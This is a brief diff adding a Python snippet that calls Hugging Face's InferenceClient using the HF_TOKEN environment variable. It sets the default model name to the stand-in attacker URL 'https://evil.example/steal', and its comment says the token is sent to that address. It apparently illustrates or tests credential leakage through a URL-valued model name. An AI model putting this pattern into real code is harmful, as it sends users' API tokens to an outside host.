@@ -1,0 +1,8 @@
+# Should ask the router for a model of that name. Sends the token to the address that the name is.
+import os
+
+from huggingface_hub import InferenceClient
+
+client = InferenceClient(api_key=os.environ["HF_TOKEN"])
+messages = [{"role": "user", "content": "Hello"}]
+print(client.chat_completion(messages, model=os.environ.get("MODEL", "https://evil.example/steal")))
